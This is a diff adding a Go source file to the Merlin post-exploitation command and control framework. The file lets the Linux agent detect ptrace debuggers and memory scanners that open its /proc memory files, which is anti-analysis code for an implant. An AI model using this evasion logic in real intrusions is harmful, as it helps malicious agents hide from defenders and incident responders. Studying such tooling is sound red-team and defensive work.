@@ -0,0 +1,88 @@
+//go:build linux
+// +build linux
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package os
+
+import (
+	// Standard
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+)
+
+// memoryFiles are the files under /proc/<pid> that a process opens to read another process's memory or its layout
+var memoryFiles = map[string]bool{"mem": true, "maps": true, "smaps": true, "pagemap": true}
+
+// inspections returns the process tracing the agent, typically a debugger, and the processes that have the agent's
+// memory files in /proc open, the way memory scanners read it. Only the processes the agent has permission to read
+// the file descriptors of are checked
+func inspections() (found []Inspection, err error) {
+	status, err := os.ReadFile("/proc/self/status")
+	if err != nil {
+		return nil, fmt.Errorf("there was an error reading /proc/self/status: %s", err)
+	}
+	for _, line := range strings.Split(string(status), "\n") {
+		if !strings.HasPrefix(line, "TracerPid:") {
+			continue
+		}
+		if tracer, _ := strconv.Atoi(strings.TrimSpace(strings.TrimPrefix(line, "TracerPid:"))); tracer != 0 {
+			found = append(found, Inspection{PID: tracer, Process: processName(tracer), Detail: "is tracing the agent with ptrace"})
+		}
+		break
+	}
+
+	self := os.Getpid()
+	prefix := fmt.Sprintf("/proc/%d/", self)
+	entries, err := os.ReadDir("/proc")
+	if err != nil {
+		return found, fmt.Errorf("there was an error listing processes: %s", err)
+	}
+	for _, entry := range entries {
+		pid, err := strconv.Atoi(entry.Name())
+		if err != nil || pid == self {
+			continue
+		}
+		dir := filepath.Join("/proc", entry.Name(), "fd")
+		fds, err := os.ReadDir(dir)
+		if err != nil {
+			continue
+		}
+		for _, fd := range fds {
+			link, err := os.Readlink(filepath.Join(dir, fd.Name()))
+			if err != nil || !strings.HasPrefix(link, prefix) || !memoryFiles[strings.TrimPrefix(link, prefix)] {
+				continue
+			}
+			found = append(found, Inspection{PID: pid, Process: processName(pid), Detail: fmt.Sprintf("has the agent's %s open", link)})
+		}
+	}
+	return found, nil
+}
+
+// processName returns the process's name from /proc, empty if it can't be read
+func processName(pid int) string {
+	comm, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "comm"))
+	if err != nil {
+		return ""
+	}
+	return string(bytes.TrimSpace(comm))
+}